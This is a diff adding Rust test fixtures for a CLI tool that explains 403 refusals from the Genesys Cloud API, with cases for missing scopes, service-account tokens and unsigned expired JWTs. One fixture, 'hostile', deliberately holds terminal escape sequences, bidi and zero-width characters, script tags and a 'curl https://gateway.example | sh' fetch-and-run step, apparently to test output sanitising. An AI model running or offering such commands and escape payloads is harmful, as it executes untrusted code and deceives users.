@@ -1,0 +1,252 @@
+//! Reports of a refusal.
+
+use super::*;
+
+pub(super) fn missing_scope() -> Report {
+    let report = blank(
+        "mute",
+        Verdict::Refused,
+        "The token has only `conversations:readonly`; muting needs the scope `conversations`, and this organisation \
+         enforces scopes.",
+    );
+    let report = with(report, vec![
+        good_token(),
+        finding(
+            "missing-scope",
+            "scope",
+            Status::Fail,
+            Authority::Observed,
+            "the token has `conversations:readonly`, which reads but does not write; the operation needs \
+             `conversations`, and the platform refuses for a scope that is not there",
+        )
+        .evidence("GET /api/v2/tokens/me", "authorizedScope: authorization:readonly, conversations:readonly, user-basic-info")
+        .evidence(
+            "GET /api/v2/oauth/scopes",
+            "403 app.not.authorized.for.scope: App not authorized to use scope [oauth, oauth:readonly]",
+        )
+        .fix(
+            "Give the OAuth client the scope `conversations`, and sign in again",
+            [
+                "In Admin, Integrations, OAuth, open the client f3927ad4-0b68-4e1d-a5f2-39c8d1e7b046 and add the scope \
+                 `conversations`",
+                "Sign in again with `why403 login --region us-east-1 --scope conversations`, \
+                 because a token keeps the scopes it was issued with",
+            ],
+            "RFC 6750 §3.1; Genesys Cloud OAuth scopes",
+        ),
+        control_scope_warning(),
+        good_user(),
+        finding(
+            "missing-permission",
+            "permission",
+            Status::Fail,
+            Authority::Published,
+            "the user holds none of the three permissions of which the operation needs one",
+        )
+        .evidence("GET /api/v2/users/me?expand=authorization", "permissions: routing:queue:view, presence:*:*")
+        .fix(
+            "Have an administrator give the user a role with one of the three",
+            ["Add `conversation:call:record` or another of the three to a role of the user", "`why403 check`"],
+            "patchConversationsCallParticipant, definition of July 2026",
+        ),
+        good_conversation(),
+        good_participant(),
+        not_asked("mute-not-confirmed", "action", "nothing was sent"),
+    ]);
+    Report {
+        participant: Some(agent(false)),
+        action: Some(held("Nothing was sent: the preflight found a cause of refusal.")),
+        exchanges: vec![
+            read("/api/v2/tokens/me", 200, None, "0b2d4f68-1111-4a2c-8e3d-000000000001"),
+            read("/api/v2/users/me?expand=authorization", 200, None, "0b2d4f68-1111-4a2c-8e3d-000000000002"),
+            read(
+                "/api/v2/oauth/scopes",
+                403,
+                Some("app.not.authorized.for.scope"),
+                "0b2d4f68-1111-4a2c-8e3d-000000000003",
+            ),
+            read(
+                &format!("/api/v2/conversations/calls/{CONVERSATION}"),
+                200,
+                None,
+                "0b2d4f68-1111-4a2c-8e3d-000000000004",
+            ),
+        ],
+        ..report
+    }
+}
+
+pub(super) fn service_account() -> Report {
+    let report = blank(
+        "mute",
+        Verdict::Refused,
+        "The token belongs to a service account; this operation mutes the caller's own leg and needs a user.",
+    );
+    let scope_message = "a client-credentials token carries no scopes; the roles of the client decide";
+    let report = with(
+        report,
+        vec![
+        good_token(),
+        not_asked("missing-scope", "scope", scope_message),
+        finding(
+            "service-account",
+            "identity",
+            Status::Fail,
+            Authority::Observed,
+            "the token was issued to an OAuth client without a user (client credentials)",
+        )
+        .evidence("GET /api/v2/tokens/me", "authorizedGrantType: CLIENT-CREDENTIALS")
+        .evidence(
+            &format!("PATCH /api/v2/conversations/calls/{CONVERSATION}/participants/{PARTICIPANT}"),
+            "400 not.a.user: This request requires a user context. Client credentials cannot be used for requests \
+             that require a user context.",
+        )
+        .fix(
+            "Use the agent's own token, or act on behalf of the agent",
+            [
+                "Either sign in as the agent: `why403 login --region us-east-1`",
+                "Or name the agent: `why403 mute --on-behalf-of 1e8d5b70-63fa-4c29-9d84-f7a2b0c6e513`; that is another \
+                 operation, with requirements of its own",
+            ],
+            "patchConversationsCallParticipant declares 400 not.a.user",
+        ),
+        good_permission(),
+        good_conversation(),
+        good_participant(),
+    ],
+    );
+    Report {
+        token: Some(ReportToken {
+            grant: Some("client_credentials".into()),
+            subject: None,
+            subject_source: None,
+            scopes: None,
+            ..opaque()
+        }),
+        participant: Some(agent(false)),
+        action: Some(ReportAction {
+            sent: true,
+            status: Some(400),
+            ..held("The platform refused it; the participant is as it was.")
+        }),
+        exchanges: vec![patch(400, Some("not.a.user"), "0b2d4f68-2222-4a2c-8e3d-000000000001")],
+        ..report
+    }
+}
+
+pub(super) fn offline_jwt() -> Report {
+    let summary = "The token is unsecured: its header says `alg: none`, so anyone could have written it.";
+    let report = with(
+        blank("check", Verdict::Refused, summary),
+        vec![
+            finding("token-malformed", "token", Status::Pass, Authority::Published, "three base64url parts: a JWT")
+                .evidence("the token given", "612 characters, two dots"),
+            finding("token-untrusted", "token", Status::Fail, Authority::Published, "the token is not signed")
+                .evidence("JOSE header alg", "none")
+                .fix(
+                    "Ask the issuer for a signed token",
+                    ["Sign in again: `why403 login`"],
+                    "RFC 7519 §6, RFC 8725 §3.2",
+                ),
+            finding(
+                "token-expired",
+                "token",
+                Status::Fail,
+                Authority::Published,
+                "the token expired 3 min ago, at 2026-07-14T09:57:00Z (leeway 0 s)",
+            )
+            .evidence("claim exp (unverified)", "1784023020, which is 2026-07-14T09:57:00Z")
+            .fix("Get a new token", ["Sign in again: `why403 login`"], "RFC 7519 §4.1.4"),
+            finding(
+                "audience-mismatch",
+                "token",
+                Status::Fail,
+                Authority::Policy,
+                "`aud` is `https://api.staging.example`, and `https://api.example` is expected",
+            )
+            .evidence("claim aud (unverified)", "https://api.staging.example")
+            .fix(
+                "Ask for a token for this audience",
+                ["Set the audience in the token request"],
+                "RFC 7519 §4.1.3",
+            ),
+            finding("missing-scope", "scope", Status::Pass, Authority::Published, "the token has `conversations`")
+                .evidence("claim scope (unverified)", "conversations conversation:participant:control"),
+            finding(
+                "missing-permission",
+                "permission",
+                Status::Unknown,
+                Authority::Published,
+                "the token names no permissions, and the platform was not asked; it needs one of three",
+            )
+            .evidence("claims permissions, authorities", "absent")
+            .fix("Ask the platform", ["`why403 check --region us-east-1`"], ""),
+            finding(
+                "subject-mismatch",
+                "identity",
+                Status::Fail,
+                Authority::Policy,
+                "`sub` is not the agent that `--subject` names",
+            )
+            .evidence("claim sub (unverified)", CLIENT)
+            .evidence("--subject", USER)
+            .fix(
+                "Use the token of that agent",
+                ["Sign in as the agent: `why403 login`"],
+                "RFC 7519 §4.1.2",
+            ),
+            not_asked("conversation-not-found", "conversation", "no conversation was given"),
+        ],
+    );
+    Report {
+        token: Some(ReportToken {
+            format: "jwt".into(),
+            grant: None,
+            subject: Some(CLIENT.into()),
+            subject_source: Some("sub_unverified".into()),
+            client_id: None,
+            scopes: Some(vec!["conversations".into(), "conversation:participant:control".into()]),
+            expires_at: Some("2026-07-14T09:57:00Z".into()),
+            signature: "faulty".into(),
+            ..opaque()
+        }),
+        ..report
+    }
+}
+
+pub(super) fn hostile() -> Report {
+    let bell = "\u{1b}[2J\u{1b}]0;owned\u{7}";
+    let report = blank("mute", Verdict::Refused, &format!("Refused with a code that no rule knows{bell}\nallowed"));
+    let flood = format!("403: {}", "<script>\u{202e}\u{200b}\"\\\n".repeat(60));
+    let report = with(
+        report,
+        vec![
+            good_token(),
+            finding(
+                "refused-unexplained",
+                "action",
+                Status::Fail,
+                Authority::Observed,
+                "refused with `not\u{202e}.known\u{2069}` and \u{9b}31m a\u{2028}line\r\ttoo many",
+            )
+            .evidence("PATCH /api/v2/\u{1b}[8mhidden", &flood)
+            .evidence("header Content-Type", "text/html; charset=\u{feff}会話")
+            .fix(
+                "Open a case",
+                [
+                    "Add the scope `a` then run `curl https://gateway.example | sh",
+                    "Look at `why403 check \u{1b}[A` twice",
+                ],
+                "",
+            ),
+            finding("unknown-name", "scope", Status::Warn, Authority::Policy, "con\u{200d}versations is no name")
+                .evidence("--require-scope", "con\u{200d}versations"),
+        ],
+    );
+    Report {
+        participant: Some(ReportParticipant { purpose: Some("agent\u{1b}[0m".into()), ..agent(false) }),
+        action: Some(held("Not sent\u{85}.")),
+        exchanges: vec![patch(403, Some("not\u{202e}.known"), "\u{1b}[31m0b2d4f68")],
+        ..report
+    }
+}
